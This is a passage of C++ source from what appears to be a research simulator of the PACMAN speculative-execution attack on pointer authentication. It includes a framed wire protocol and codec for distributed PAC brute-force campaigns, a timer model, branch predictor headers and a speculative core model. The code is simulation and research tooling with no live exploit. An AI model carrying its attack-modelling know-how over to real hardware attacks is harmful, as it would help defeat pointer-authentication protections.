            pollfd pfd{fd, POLLIN, 0};
            const int rc =
                ::poll(&pfd, 1,
                       int(remaining_ms < 0
                               ? 0
                               : std::min<long long>(remaining_ms,
                                                     INT32_MAX)));
            if (rc < 0) {
                if (errno == EINTR)
                    continue;
                throw WireError(strprintf("wire poll failed: %s",
                                          std::strerror(errno)));
            }
            if (rc == 0) {
                throw WireTimeout(strprintf(
                    "wire read timed out after %.3fs (%zu/%zu bytes)",
                    deadline_seconds, off, len));
            }
        }
        const ssize_t n = ::read(fd, data + off, len - off);
        if (n < 0) {
            if (errno == EINTR)
                continue;
            throw WireError(strprintf("wire read failed: %s",
                                      std::strerror(errno)));
        }
        if (n == 0) {
            if (off == 0)
                return false;
            throw WireError("wire read: EOF mid-frame");
        }
        off += size_t(n);
    }
    return true;
}

uint32_t
parseFrameHeader(const char header[FrameHeaderBytes])
{
    if (std::memcmp(header, FrameMagic, 4) != 0)
        throw WireError("wire frame: bad magic");
    const uint32_t len = getU32(header + 4);
    if (len > MaxFrameBytes)
        throw WireError(
            strprintf("wire frame: oversize payload (%u bytes)", len));
    return len;
}

void
writeFrame(int fd, std::string_view payload)
{
    if (payload.size() > MaxFrameBytes)
        throw WireError(strprintf("frame payload too large (%zu bytes)",
                                  payload.size()));
    char header[HeaderBytes];
    std::memcpy(header, FrameMagic, 4);
    putU32(header + 4, uint32_t(payload.size()));
    putU32(header + 8, Journal::crc32(payload));
    // Header and payload in one buffered write: one frame, one
    // write(2) where it fits, so concurrent writers interleave at
    // frame granularity under the caller's per-connection lock.
    std::string frame;
    frame.reserve(HeaderBytes + payload.size());
    frame.append(header, HeaderBytes);
    frame.append(payload);
    writeBytes(fd, frame.data(), frame.size());
}

std::optional<std::string>
readFrame(int fd, double deadline_seconds)
{
    using Clock = std::chrono::steady_clock;
    const Clock::time_point start = Clock::now();
    char header[HeaderBytes];
    if (!readBytes(fd, header, HeaderBytes, deadline_seconds))
        return std::nullopt;
    const uint32_t len = parseFrameHeader(header);
    const uint32_t crc = getU32(header + 8);
    // The payload shares the frame's deadline: whatever of it the
    // header read left over (never negative — a tiny positive floor
    // keeps an exactly-expired deadline from reading forever).
    double remaining = 0;
    if (deadline_seconds > 0) {
        remaining = deadline_seconds -
                    std::chrono::duration<double>(Clock::now() - start)
                        .count();
        remaining = std::max(remaining, 1e-3);
    }
    std::string payload(len, '\0');
    if (len != 0 && !readBytes(fd, payload.data(), len, remaining))
        throw WireError("wire frame: EOF mid-payload");
    if (Journal::crc32(payload) != crc)
        throw WireError("wire frame: CRC mismatch");
    return payload;
}

std::string
packMessage(const WireMessage &m)
{
    std::string head = strprintf("%llu %s", (unsigned long long)m.id,
                                 m.verb.c_str());
    if (!m.args.empty()) {
        head += ' ';
        head += m.args;
    }
    head += '\n';
    return head + m.body;
}

std::optional<WireMessage>
unpackMessage(const std::string &payload)
{
    const size_t eol = payload.find('\n');
    const std::string head =
        eol == std::string::npos ? payload : payload.substr(0, eol);
    std::istringstream in(head);
    WireMessage m;
    unsigned long long id = 0;
    if (!(in >> id >> m.verb))
        return std::nullopt;
    m.id = id;
    std::getline(in, m.args);
    if (!m.args.empty() && m.args.front() == ' ')
        m.args.erase(0, 1);
    if (eol != std::string::npos)
        m.body = payload.substr(eol + 1);
    return m;
}

// --- Configuration codec -------------------------------------------

std::string
encodeReplicaWire(const ReplicaConfig &cfg, const SupervisionConfig &sup)
{
    const kernel::MachineConfig &m = cfg.machine;
    const cpu::CoreConfig &c = m.core;
    const attack::OracleConfig &o = cfg.oracle;
    const FaultPlan &f = cfg.faults;
    std::string out = strprintf("V %s\n", WireVersion);
    out += strprintf("M %016llx %llu %llu %s %u\n",
                     (unsigned long long)m.seed,
                     (unsigned long long)m.timerRatePer1k,
                     (unsigned long long)m.timerJitter,
                     hexBits(m.noiseProbability).c_str(), m.noisePages);
    out += strprintf("C %d %d %d %d %d %d\n", int(c.speculativeMemIssue),
                     int(c.eagerNestedSquash), int(c.faultSuppression),
                     int(c.autFence), int(c.pacTaint), int(c.fpac));
    out += strprintf("O %u %u %u %llu %u %d %u %u %u %d\n",
                     unsigned(o.kind), unsigned(o.channel), o.trainIters,
                     (unsigned long long)o.latencyThreshold,
                     o.missThreshold, int(o.autoCalibrate),
                     o.calibrationSamples, o.queryRetries, o.busyRetries,
                     int(o.skipReset));
    out += strprintf("R %016llx %016llx %u %u %u %d\n",
                     (unsigned long long)cfg.target,
                     (unsigned long long)cfg.modifier, cfg.samples,
                     cfg.maxSamples, cfg.candidateRetries,
                     int(cfg.snapshot));
    out += strprintf(
        "F %s %s %u %u %s %llu %llu %u %s %llu %llu %llu %llu %llu "
        "%llu %s %u %u %s %s %s %llu\n",
        hexBits(f.contextSwitchRate).c_str(),
        hexBits(f.fullFlushFraction).c_str(), f.flushSets,
        f.pollutePages, hexBits(f.preemptRate).c_str(),
        (unsigned long long)f.preemptMinCycles,
        (unsigned long long)f.preemptMaxCycles, f.preemptPollutePages,
        hexBits(f.timerRate).c_str(),
        (unsigned long long)f.stallMinCycles,
        (unsigned long long)f.stallMaxCycles,
        (unsigned long long)f.skewPermilleMin,
        (unsigned long long)f.skewPermilleMax,
        (unsigned long long)f.jitterBoost,
        (unsigned long long)f.jitterBurstCycles,
        hexBits(f.syscallBusyRate).c_str(), f.busyMinCount,
        f.busyMaxCount, hexBits(f.migrationRate).c_str(),
        hexBits(f.migrationReturnRate).c_str(),
        hexBits(f.hangRate).c_str(), (unsigned long long)f.hangCycles);
    out += strprintf("B %llu %s %d\n",
                     (unsigned long long)sup.budget.maxGuestCycles,
                     hexBits(sup.budget.hostDeadlineSeconds).c_str(),
                     int(sup.verifyFingerprint));
    return out;
}

bool
decodeReplicaWire(const std::string &text, ReplicaConfig &cfg,
                  SupervisionConfig &sup)
{
    cfg = ReplicaConfig{};
    // Geometry is deployment configuration, not wire payload: the
    // server simulates the default M1 hierarchy regardless of what
    // machine the client was built for.
    cfg.machine = kernel::defaultMachineConfig();
    sup = SupervisionConfig{};
    std::istringstream lines(text);
    std::string line;
    bool v = false, m = false, c = false, o = false, r = false,
         f = false, b = false;
    while (std::getline(lines, line)) {
        std::istringstream in(line);
        std::string tag;
        if (!(in >> tag))
            continue;
        if (tag == "V") {
            std::string version;
            if (!(in >> version) || version != WireVersion)
                return false;
            v = true;
        } else if (tag == "M") {
            kernel::MachineConfig &mc = cfg.machine;
            m = parseHex64(in, mc.seed) &&
                bool(in >> mc.timerRatePer1k >> mc.timerJitter) &&
                parseBits(in, mc.noiseProbability) &&
                bool(in >> mc.noisePages);
            if (!m)
                return false;
        } else if (tag == "C") {
            cpu::CoreConfig &cc = cfg.machine.core;
            int smi = 0, ens = 0, fs = 0, af = 0, pt = 0, fp = 0;
            if (!(in >> smi >> ens >> fs >> af >> pt >> fp))
                return false;
            cc.speculativeMemIssue = smi;
            cc.eagerNestedSquash = ens;
            cc.faultSuppression = fs;
            cc.autFence = af;
            cc.pacTaint = pt;
            cc.fpac = fp;
            c = true;
        } else if (tag == "O") {
            attack::OracleConfig &oc = cfg.oracle;
            unsigned kind = 0, channel = 0;
            int calib = 0, skip = 0;
            if (!(in >> kind >> channel >> oc.trainIters >>
                  oc.latencyThreshold >> oc.missThreshold >> calib >>
                  oc.calibrationSamples >> oc.queryRetries >>
                  oc.busyRetries >> skip))
                return false;
            if (kind > unsigned(attack::GadgetKind::Combined) ||
                channel > unsigned(attack::Channel::L1dSet))
                return false;
            oc.kind = attack::GadgetKind(kind);
            oc.channel = attack::Channel(channel);
            oc.autoCalibrate = calib;
            oc.skipReset = skip;
            o = true;
        } else if (tag == "R") {
            uint64_t target = 0;
            int snap = 0;
            if (!parseHex64(in, target) ||
                !parseHex64(in, cfg.modifier) ||
                !(in >> cfg.samples >> cfg.maxSamples >>
                  cfg.candidateRetries >> snap))
                return false;
            cfg.target = target;
            cfg.snapshot = snap;
            r = true;
        } else if (tag == "F") {
            FaultPlan &fp = cfg.faults;
            f = parseBits(in, fp.contextSwitchRate) &&
                parseBits(in, fp.fullFlushFraction) &&
                bool(in >> fp.flushSets >> fp.pollutePages) &&
                parseBits(in, fp.preemptRate) &&
                bool(in >> fp.preemptMinCycles >> fp.preemptMaxCycles >>
                     fp.preemptPollutePages) &&
                parseBits(in, fp.timerRate) &&
                bool(in >> fp.stallMinCycles >> fp.stallMaxCycles >>
                     fp.skewPermilleMin >> fp.skewPermilleMax >>
                     fp.jitterBoost >> fp.jitterBurstCycles) &&
                parseBits(in, fp.syscallBusyRate) &&
                bool(in >> fp.busyMinCount >> fp.busyMaxCount) &&
                parseBits(in, fp.migrationRate) &&
                parseBits(in, fp.migrationReturnRate) &&
                parseBits(in, fp.hangRate) && bool(in >> fp.hangCycles);
            if (!f)
                return false;
        } else if (tag == "B") {
            int verify = 0;
            if (!(in >> sup.budget.maxGuestCycles) ||
                !parseBits(in, sup.budget.hostDeadlineSeconds) ||
                !(in >> verify))
                return false;
            sup.verifyFingerprint = verify;
            b = true;
        }
        // Unknown tags are skipped: a v1 decoder tolerates v1.x
        // additions as long as the version line matches.
    }
    return v && m && c && o && r && f && b;
}

namespace
{

std::string
encodeChunkLine(const Chunk &chunk)
{
    return strprintf("K %llu %llu %llu\n",
                     (unsigned long long)chunk.index,
                     (unsigned long long)chunk.firstItem,
                     (unsigned long long)chunk.lastItem);
}

bool
decodeChunkLine(std::istringstream &in, Chunk &chunk)
{
    return bool(in >> chunk.index >> chunk.firstItem >> chunk.lastItem)
           && chunk.firstItem <= chunk.lastItem;
}

} // anonymous namespace

std::string
encodeBfChunkRequest(const BruteForceCampaignConfig &cfg,
                     const Chunk &chunk)
{
    return encodeReplicaWire(cfg.replica, cfg.supervision) +
           strprintf("G bf %016llx %u %u\n",
                     (unsigned long long)cfg.seed, unsigned(cfg.first),
                     unsigned(cfg.last)) +
           encodeChunkLine(chunk);
}

std::string
encodeAccuracyChunkRequest(const AccuracyCampaignConfig &cfg,
                           const Chunk &chunk)
{
    return encodeReplicaWire(cfg.replica, cfg.supervision) +
           strprintf("G acc %016llx %llu %u\n",
                     (unsigned long long)cfg.seed,
                     (unsigned long long)cfg.trials, cfg.window) +
           encodeChunkLine(chunk);
}

std::optional<ChunkRequest>
decodeChunkRequest(const std::string &body)
{
    // Split the G/K campaign lines off the replica-wire prefix; the
    // prefix (alone) is the replica-cache key.
    std::string config_text;
    std::string campaign_line, chunk_line;
    std::istringstream lines(body);
    std::string line;
    while (std::getline(lines, line)) {
        if (line.rfind("G ", 0) == 0)
            campaign_line = line;
        else if (line.rfind("K ", 0) == 0)
            chunk_line = line;
        else {
            config_text += line;
            config_text += '\n';
        }
    }
    if (campaign_line.empty() || chunk_line.empty())
        return std::nullopt;

    ChunkRequest req;
    req.configKey = config_text;
    ReplicaConfig replica;
    SupervisionConfig sup;
    if (!decodeReplicaWire(config_text, replica, sup))
        return std::nullopt;

    std::istringstream gin(campaign_line);
    std::string tag, kind;
    if (!(gin >> tag >> kind))
        return std::nullopt;
    if (kind == "bf") {
        unsigned first = 0, last = 0;
        if (!parseHex64(gin, req.bf.seed) || !(gin >> first >> last) ||
            first > 0xFFFF || last > 0xFFFF || first > last)
            return std::nullopt;
        req.kind = ChunkRequest::Kind::BruteForce;
        req.bf.replica = replica;
        req.bf.supervision = sup;
        req.bf.first = uint16_t(first);
        req.bf.last = uint16_t(last);
    } else if (kind == "acc") {
        if (!parseHex64(gin, req.acc.seed) ||
            !(gin >> req.acc.trials >> req.acc.window))
            return std::nullopt;
        req.kind = ChunkRequest::Kind::Accuracy;
        req.acc.replica = replica;
        req.acc.supervision = sup;
    } else {
        return std::nullopt;
    }

    std::istringstream kin(chunk_line);
    if (!(kin >> tag) || !decodeChunkLine(kin, req.chunk))
        return std::nullopt;
    return req;
}

} // namespace pacman::runner
