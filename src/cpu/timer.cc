#include "timer.hh"

namespace pacman::cpu
{

ThreadTimerDevice::ThreadTimerDevice(const uint64_t *cycle,
                                     uint64_t incrementsPer1k,
                                     uint64_t jitter, Random *rng)
    : cycle_(cycle), basePer1k_(incrementsPer1k), jitter_(jitter),
      rng_(rng)
{
}

void
ThreadTimerDevice::rebase(uint64_t cycle)
{
    // Anchor the slope at the current (un-jittered) value so rate
    // changes are continuous. A backwards raw jump would be clamped
    // by the monotonicity guard and read as a long stall instead.
    const uint64_t rate = basePer1k_ * scalePermille_ / 1000;
    baseValue_ += (cycle - baseCycle_) * rate / 1000;
    baseCycle_ = cycle;
}

void
ThreadTimerDevice::setBaseRatePer1k(uint64_t per1k)
{
    rebase(*cycle_);
    basePer1k_ = per1k;
}

void
ThreadTimerDevice::setRateScalePermille(uint64_t permille)
{
    rebase(*cycle_);
    scalePermille_ = permille;
}

void
ThreadTimerDevice::injectStall(uint64_t cycles)
{
    stalled_ = true;
    stallUntil_ = *cycle_ + cycles;
}

void
ThreadTimerDevice::injectJitterBurst(uint64_t extra, uint64_t cycles)
{
    burstExtra_ = extra;
    burstUntil_ = *cycle_ + cycles;
}

uint64_t
ThreadTimerDevice::valueAt(uint64_t cycle)
{
    if (stalled_) {
        if (cycle < stallUntil_)
            return lastValue_; // descheduled: no draws, no progress
        // Resume counting from the frozen value — the loop iterations
        // that would have run are simply lost (permanent offset).
        stalled_ = false;
        baseCycle_ = cycle;
        baseValue_ = lastValue_;
    }
    const uint64_t rate = basePer1k_ * scalePermille_ / 1000;
    uint64_t value = baseValue_ + (cycle - baseCycle_) * rate / 1000;
    const uint64_t jit =
        jitter_ + (cycle < burstUntil_ ? burstExtra_ : 0);
    if (jit > 0 && rng_) {
        const int64_t noise = rng_->range(-int64_t(jit), int64_t(jit));
        value = uint64_t(int64_t(value) + noise);
    }
    // The real counter is monotonic; jitter must not reverse it.
    if (value < lastValue_)
        value = lastValue_;
    lastValue_ = value;
    return value;
}

uint64_t
ThreadTimerDevice::read(uint64_t offset, unsigned size)
{
    (void)offset;
    (void)size;
    return valueAt(*cycle_);
}

void
ThreadTimerDevice::write(uint64_t offset, uint64_t value, unsigned size)
{
    // Stores to the shared counter page are permitted (the real
    // variable is ordinary memory) but have no effect on the model.
    (void)offset;
    (void)value;
    (void)size;
}

} // namespace pacman::cpu
