#include "timer.hh"

namespace pacman::cpu
{

ThreadTimerDevice::ThreadTimerDevice(const uint64_t *cycle,
                                     uint64_t incrementsPer1k,
                                     uint64_t jitter, Random *rng)
    : cycle_(cycle), incrementsPer1k_(incrementsPer1k), jitter_(jitter),
      rng_(rng)
{
}

uint64_t
ThreadTimerDevice::valueAt(uint64_t cycle)
{
    uint64_t value = cycle * incrementsPer1k_ / 1000;
    if (jitter_ > 0 && rng_) {
        const int64_t noise = rng_->range(-int64_t(jitter_),
                                          int64_t(jitter_));
        value = uint64_t(int64_t(value) + noise);
    }
    // The real counter is monotonic; jitter must not reverse it.
    if (value < lastValue_)
        value = lastValue_;
    lastValue_ = value;
    return value;
}

uint64_t
ThreadTimerDevice::read(uint64_t offset, unsigned size)
{
    (void)offset;
    (void)size;
    return valueAt(*cycle_);
}

void
ThreadTimerDevice::write(uint64_t offset, uint64_t value, unsigned size)
{
    // Stores to the shared counter page are permitted (the real
    // variable is ordinary memory) but have no effect on the model.
    (void)offset;
    (void)value;
    (void)size;
}

} // namespace pacman::cpu
