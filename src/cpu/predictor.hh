/**
 * @file
 * Branch prediction structures: a bimodal (2-bit counter) conditional
 * predictor and a branch target buffer for indirect branches.
 *
 * The attack interacts with both: the conditional predictor is
 * trained so the PACMAN gadget's guard branch mis-speculates into the
 * gadget body, and the BTB supplies the (stale) predicted target of
 * the gadget's indirect branch until the authenticated pointer
 * resolves.
 */

#ifndef PACMAN_CPU_PREDICTOR_HH
#define PACMAN_CPU_PREDICTOR_HH

#include <cstdint>
#include <optional>
#include <vector>

#include "isa/pointer.hh"

namespace pacman::cpu
{

/** Bimodal conditional-branch predictor (2-bit saturating counters). */
class BimodalPredictor
{
  public:
    /** @param entries Power-of-two table size. */
    explicit BimodalPredictor(unsigned entries);

    /** Predict taken/not-taken for the branch at @p pc. */
    bool predict(isa::Addr pc) const;

    /** Train with the resolved direction. */
    void update(isa::Addr pc, bool taken);

    /** Reset all counters to weakly not-taken. */
    void reset();

    /** Complete state: the counter table. */
    using Snapshot = std::vector<uint8_t>;

    Snapshot takeSnapshot() const { return counters_; }
    void restore(const Snapshot &snap) { counters_ = snap; }

  private:
    uint64_t indexOf(isa::Addr pc) const;

    std::vector<uint8_t> counters_;
};

/** Direct-mapped branch target buffer. */
class Btb
{
  public:
    explicit Btb(unsigned entries);

    /** Predicted target for the indirect branch at @p pc, if any. */
    std::optional<isa::Addr> lookup(isa::Addr pc) const;

    /** Record the resolved target. */
    void update(isa::Addr pc, isa::Addr target);

    /** Invalidate all entries. */
    void reset();

    /** One BTB entry (exposed so Snapshot can hold the table). */
    struct Entry
    {
        bool valid = false;
        isa::Addr tag = 0;
        isa::Addr target = 0;
    };

    /** Complete state: the entry table. */
    using Snapshot = std::vector<Entry>;

    Snapshot takeSnapshot() const { return entries_; }
    void restore(const Snapshot &snap) { entries_ = snap; }

  private:
    uint64_t indexOf(isa::Addr pc) const;

    std::vector<Entry> entries_;
};

} // namespace pacman::cpu

#endif // PACMAN_CPU_PREDICTOR_HH
