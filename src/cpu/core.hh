/**
 * @file
 * The speculative out-of-order core model.
 *
 * The model is a dataflow-timed interpreter with explicit wrong-path
 * execution:
 *
 *  - Architectural execution proceeds instruction by instruction; a
 *    per-register ready-time scoreboard gives out-of-order dataflow
 *    timing (an instruction issues when its sources are ready, not
 *    when its predecessors finish).
 *  - On a mispredicted branch, the wrong path is *actually executed*
 *    against a speculative register context until the branch's
 *    resolution time (bounded by the ROB size). Memory operations and
 *    instruction fetches issued on the wrong path modulate the cache
 *    and TLB hierarchy; their faults are recorded and suppressed.
 *    Architectural state is untouched — exactly the asymmetry every
 *    speculative-execution attack exploits.
 *  - Nested mispredictions inside the wrong path recurse; with eager
 *    squash enabled (the M1-like default), an inner branch redirects
 *    speculative fetch to its computed target as soon as it resolves,
 *    which is the behaviour the instruction PACMAN gadget requires
 *    (Section 4.2).
 *
 * Faults reaching architectural execution terminate the run: an EL0
 * fault models the OS killing the process ("crash"), an EL1 fault is
 * a kernel panic — the events Pointer Authentication's
 * security-by-crash design relies on, and which the attack avoids.
 */

#ifndef PACMAN_CPU_CORE_HH
#define PACMAN_CPU_CORE_HH

#include <array>
#include <cstdint>
#include <functional>
#include <optional>

#include "base/random.hh"
#include "cpu/config.hh"
#include "cpu/decode_cache.hh"
#include "cpu/predictor.hh"
#include "cpu/superblock.hh"
#include "crypto/pac.hh"
#include "isa/encoding.hh"
#include "isa/inst.hh"
#include "mem/hierarchy.hh"

namespace pacman::cpu
{

/** Why a run() returned. */
enum class ExitKind : uint8_t
{
    Halted,        //!< HLT executed
    CrashEl0,      //!< architectural fault at EL0 (process killed)
    KernelPanic,   //!< architectural fault at EL1
    Breakpoint,    //!< BRK executed
    MaxInsts,      //!< instruction budget exhausted
    UndefinedInst, //!< fetched word failed isa::decode (SIGILL-style)
};

/** Exit details. */
struct ExitStatus
{
    ExitKind kind = ExitKind::Halted;
    uint64_t code = 0;        //!< HLT/BRK immediate; undecodable word
    isa::Addr pc = 0;         //!< faulting / final pc
    mem::Fault fault = mem::Fault::None;
    std::string reason;       //!< human-readable description
};

/**
 * One executed instruction, delivered to the trace hook: either an
 * architecturally retired instruction or a wrong-path (speculative)
 * one — letting tools watch exactly the asymmetry the attack uses.
 */
struct TraceRecord
{
    isa::Addr pc = 0;
    isa::Inst inst;
    unsigned el = 0;
    bool speculative = false; //!< wrong-path execution
    uint64_t cycle = 0;       //!< fetch-time of the instruction
};

/** Aggregate pipeline statistics. */
struct CoreStats
{
    uint64_t instsRetired = 0;
    uint64_t branches = 0;
    uint64_t branchMispredicts = 0;
    uint64_t wrongPathInsts = 0;
    uint64_t wrongPathMemOps = 0;
    uint64_t specFaultsSuppressed = 0;
    uint64_t syscalls = 0;

    // Decode-cache effectiveness (host-side perf; not architectural —
    // excluded from the fast-vs-slow equivalence dumps).
    uint64_t icacheDecodeHits = 0;
    uint64_t icacheDecodeMisses = 0;
};

/** The core. One instance per simulated hardware thread. */
class Core
{
  public:
    Core(const CoreConfig &cfg, mem::MemoryHierarchy *mem, Random *rng);

    // --- Architectural state (host-side orchestration API) ---

    uint64_t reg(unsigned idx) const;
    void setReg(unsigned idx, uint64_t value);

    isa::Addr pc() const { return pc_; }
    void setPc(isa::Addr pc) { pc_ = pc; }

    unsigned el() const { return el_; }
    void setEl(unsigned el);

    const isa::Pstate &flags() const { return flags_; }

    /** Raw system-register access (no privilege check; host use). */
    uint64_t sysreg(isa::SysReg reg) const;
    void setSysreg(isa::SysReg reg, uint64_t value);

    /** Current PA key material assembled from the key registers. */
    crypto::PacKey pacKey(crypto::PacKeySelect sel) const;

    /** Core cycle count (the dataflow "now"). */
    uint64_t cycle() const { return cycle_; }

    /** Pointer to the cycle counter (for timer devices). */
    const uint64_t *cyclePtr() const { return &cycle_; }

    /**
     * Advance the cycle counter by @p n without executing guest
     * instructions — time spent preempted (the fault injector's
     * interrupt model). Forward-only, so pending dataflow ready
     * times simply fall due.
     */
    void advanceCycles(uint64_t n) { cycle_ += n; }

    // --- Execution ---

    /**
     * Run until an exit condition, executing at most @p max_insts
     * architectural instructions.
     */
    ExitStatus run(uint64_t max_insts = 100'000'000);

    // --- Structures and statistics ---

    /**
     * Install an execution-trace hook (nullptr to remove). Called
     * for every architecturally executed and every wrong-path
     * instruction; keep it cheap.
     */
    void setTraceHook(std::function<void(const TraceRecord &)> hook);

    BimodalPredictor &predictor() { return predictor_; }
    Btb &btb() { return btb_; }
    const CoreStats &stats() const { return stats_; }
    void resetStats() { stats_ = CoreStats{}; }

    /**
     * Monotonic fast-path telemetry (superblock + decode-cache
     * counters). Unlike stats(), never rewound by restore() or
     * cleared by resetStats() — see SuperblockStats.
     */
    const SuperblockStats &superblockStats() const { return sbStats_; }
    const CoreConfig &config() const { return cfg_; }
    mem::MemoryHierarchy &mem() { return *mem_; }

    /**
     * Complete per-core state: architectural registers/flags/pc/EL and
     * system registers (so PAC keys rewind), the dataflow timing
     * scoreboard, branch predictor and BTB tables, and the stats
     * counters. The decoded-instruction cache and the superblock cache
     * are deliberately NOT captured: both are pure host-side
     * memoization with no architectural or timing effect, and their
     * entries are (pa, write-generation)-validated against labels
     * PhysMem never reuses (restores relabel rewound pages with fresh
     * values), so a stale entry can never re-validate after a restore
     * — they survive the rewind warm. The speculation-context pool is
     * scratch (fully re-seeded before every use) and the trace hook is
     * host wiring; neither is captured.
     */
    struct Snapshot
    {
        std::array<uint64_t, isa::NumRegs> regs{};
        isa::Pstate flags;
        isa::Addr pc = 0;
        unsigned el = 0;
        std::array<uint64_t, size_t(isa::SysReg::NumSysRegs)> sysregs{};
        uint64_t cycle = 0;
        std::array<uint64_t, isa::NumRegs> ready{};
        uint64_t flagsReady = 0;
        uint64_t lastCompletion = 0;
        unsigned fetchGroup = 0;
        BimodalPredictor::Snapshot predictor;
        Btb::Snapshot btb;
        CoreStats stats;
    };

    Snapshot takeSnapshot() const;
    void restore(const Snapshot &snap);

  private:
    /** Speculative (wrong-path) execution context. */
    struct SpecContext
    {
        std::array<uint64_t, isa::NumRegs> regs;
        std::array<uint64_t, isa::NumRegs> ready;
        std::array<bool, isa::NumRegs> poison; //!< no value (faulted)
        std::array<bool, isa::NumRegs> taint;  //!< PA-output taint
        isa::Pstate flags;
        uint64_t flagsReady = 0;
        bool flagsPoison = false;
    };

    /** Either a fault or the instruction + its sequencing times. */
    struct FetchedInst
    {
        bool ok = false;
        bool undefined = false; //!< fetched fine, failed isa::decode
        mem::Fault fault = mem::Fault::None; //!< when !ok && !undefined
        uint32_t word = 0;      //!< raw word (valid when undefined)
        isa::Inst inst;
        uint64_t fetchLatency = 0;
        bool hasPa = false;     //!< pa/pageGen below are populated
        isa::Addr pa = 0;       //!< physical address of the word
        uint64_t pageGen = 0;   //!< write generation of pa's page
    };

    // Architectural-path helpers.
    ExitStatus archFault(mem::Fault fault, isa::Addr addr,
                         const char *what);
    FetchedInst fetch(isa::Addr pc, bool speculative);
    uint64_t sysregRead(isa::SysReg reg, uint64_t when, bool *undef);
    bool sysregWrite(isa::SysReg reg, uint64_t value);
    uint64_t ccsidrValue() const;
    void serialize(uint64_t extra);

    // Committed-path executors, shared verbatim between the
    // interpreter switch in run() and the superblock dispatch loop.
    // pc_ must hold the instruction's own pc on entry (fault
    // reporting and link-register writes read it); the caller
    // advances it afterwards.
    void execAlu(const isa::Inst &inst);
    /** @return false when the access faulted; *status is filled. */
    bool execMem(const isa::Inst &inst, ExitStatus *status);
    /** @return false on an FPAC fault; *status is filled. */
    bool execPac(const isa::Inst &inst, ExitStatus *status);
    /** @return the branch target (next pc). */
    isa::Addr execBranchDirect(const isa::Inst &inst);
    /** @return false on an undefined read; *status is filled. */
    bool execMrs(const isa::Inst &inst, ExitStatus *status);
    /** @return false on an illegal write; *status is filled. */
    bool execMsr(const isa::Inst &inst, ExitStatus *status);

    // --- Timing-trace machinery (DESIGN.md §4k) ---

    /** How one dispatch of runSuperblock treats the block's trace. */
    enum class SbMode : uint8_t
    {
        Live,   //!< full per-op hierarchy walk, no trace in play
        Record, //!< live walk while capturing a fresh trace
        Replay, //!< guards held: apply recorded hits via rehit()
    };

    /**
     * Pick the execution mode for this dispatch of @p sb: Replay when
     * its recorded trace's guards hold (per-set generation labels,
     * entry EL, address-register fingerprint), Record when there is
     * no usable trace and recording is due, Live otherwise. Performs
     * all the guard-break bookkeeping (cause attribution, soft-miss
     * counting, re-record backoff) as a side effect.
     */
    SbMode chooseSbMode(Superblock &sb);

    /** Set-label guard check with break-cause attribution. */
    bool traceGuardHolds(const TimingTrace &trace);

    /** Order-sensitive hash of the registers named by @p mask. */
    uint64_t regsFingerprint(uint64_t mask) const;

    /**
     * Start a recording: clear stale capture state and compute the
     * entry-live address-register mask and fingerprint.
     * @return false when the block has no data ops at all — nothing
     * to memoize; the caller marks the trace Ineligible.
     */
    bool beginTraceRecord(Superblock &sb);

    /** Verify and publish (or discard) the trace captured during a
     *  Record-mode run of @p sb. */
    void finalizeTraceRecord(Superblock &sb);

    /**
     * execMem with trace capture: identical architectural, timing and
     * hierarchy effects, plus records the op's resolved VA and the
     * dTLB way / L1D line it hit into @p sb's trace — or marks the
     * recording failed when the op was not an all-hit, non-device
     * access.
     */
    bool execMemRecord(const isa::Inst &inst, ExitStatus *status,
                       uint16_t op_idx, Superblock &sb);

    /**
     * Replay one recorded data op: computes issue timing from the
     * live scoreboard, re-derives the VA from live registers and —
     * when it matches @p rec.va — applies the recorded dTLB/L1D hits
     * via rehit(), deriving the PA from the live TLB entry. Bit-
     * identical to the live all-hit walk at a fraction of the cost.
     * @return false when the VA diverged (nothing was applied; the
     * caller must run the op live and drop to Live for the rest of
     * the block).
     */
    bool execMemReplay(const isa::Inst &inst,
                       const TimingTrace::MemOp &rec);

    /**
     * Execute @p sb through the threaded dispatch loop, starting at
     * its first op — whose architectural fetch (pacing, hierarchy
     * touches, stall) the run() loop has already performed — and
     * executing at most @p budget instructions. Advances pc_ past
     * every executed op. @return the number executed (0 only when
     * the entry op is a mispredicted conditional branch, which the
     * interpreter must run); sets *exited (and *status) when run()
     * must return (fault, FPAC, undefined system access).
     * @p mode selects the timing-trace behaviour for data ops.
     */
    uint64_t runSuperblock(Superblock &sb, uint64_t budget,
                           ExitStatus *status, bool *exited,
                           SbMode mode);

    /**
     * Execute the wrong path from @p pc until @p deadline (the
     * resolution time of the oldest mispredicted branch), consuming
     * @p rob_budget. @p depth caps recursion into nested wrong paths.
     *
     * @p ctx is the callee's private working context — slot
     * specCtx_[depth] of the per-core pool, seeded by the caller (a
     * copy of the parent context for nested wrong paths). Passing the
     * slot by reference keeps the recursion allocation-free while
     * preserving the by-value semantics the eager-squash path needs:
     * the parent's own slot is never written by the callee.
     */
    void speculate(isa::Addr pc, uint64_t start, uint64_t deadline,
                   SpecContext &ctx, unsigned &rob_budget,
                   unsigned depth);

    /** Deepest speculate() recursion: the depth guard admits depths
     *  0..MaxSpecDepth, and a nested call may seed one slot beyond. */
    static constexpr unsigned MaxSpecDepth = 8;

    CoreConfig cfg_;
    mem::MemoryHierarchy *mem_;
    Random *rng_;

    // Architectural state.
    std::array<uint64_t, isa::NumRegs> regs_{};
    isa::Pstate flags_;
    isa::Addr pc_ = 0;
    unsigned el_ = 0;
    std::array<uint64_t, size_t(isa::SysReg::NumSysRegs)> sysregs_{};

    // Dataflow timing state.
    uint64_t cycle_ = 1000; //!< non-zero so "ready at 0" reads clean
    std::array<uint64_t, isa::NumRegs> ready_{};
    uint64_t flagsReady_ = 0;
    uint64_t lastCompletion_ = 0;
    unsigned fetchGroup_ = 0;

    BimodalPredictor predictor_;
    Btb btb_;
    CoreStats stats_;
    std::function<void(const TraceRecord &)> traceHook_;

    DecodeCache decodeCache_;

    // Superblock cache + monotonic telemetry. Like the decode cache,
    // neither is captured by Snapshot: blocks are (pa, generation)-
    // validated against never-reused write generations and the fetch
    // epoch, so they survive restore() safely, and the telemetry must
    // keep growing across restores (see SuperblockStats).
    SuperblockCache superblocks_;
    SuperblockStats sbStats_;

    /** Pre-reserved speculation contexts, one per recursion depth. */
    std::array<SpecContext, MaxSpecDepth + 2> specCtx_;
};

} // namespace pacman::cpu

#endif // PACMAN_CPU_CORE_HH
