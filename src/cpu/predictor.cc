#include "predictor.hh"

#include "base/bitfield.hh"
#include "base/logging.hh"

namespace pacman::cpu
{

BimodalPredictor::BimodalPredictor(unsigned entries)
    : counters_(entries, 1) // weakly not-taken
{
    if (!isPowerOf2(entries))
        fatal("bimodal predictor: %u entries not a power of two",
              entries);
}

uint64_t
